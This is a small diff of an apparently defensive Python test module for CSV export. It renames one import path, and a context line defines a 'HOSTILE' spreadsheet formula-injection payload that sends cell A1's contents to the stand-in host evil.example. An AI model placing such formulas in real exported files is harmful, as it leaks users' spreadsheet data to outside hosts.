@@ -12,7 +12,7 @@ from datetime import UTC, datetime, timedelta
 
 from fastapi.testclient import TestClient
 
-from api.settings import PROJECT_ROOT
+from app.settings import PROJECT_ROOT
 from geo.csvout import csv_text
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1;"clic")'
